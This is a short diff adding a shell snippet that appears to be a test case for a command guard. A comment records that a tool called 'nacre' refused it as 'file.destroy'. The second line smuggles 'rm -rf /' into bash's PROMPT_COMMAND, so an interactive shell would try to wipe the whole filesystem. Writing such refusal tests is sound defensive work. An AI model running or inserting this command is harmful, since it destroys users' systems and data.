@@ -1,0 +1,5 @@
+# nacre: refused file.destroy
+PROMPT_COMMAND='rm -rf /' bash -i
+if [ -e done ]; then
+	echo "done"
+fi
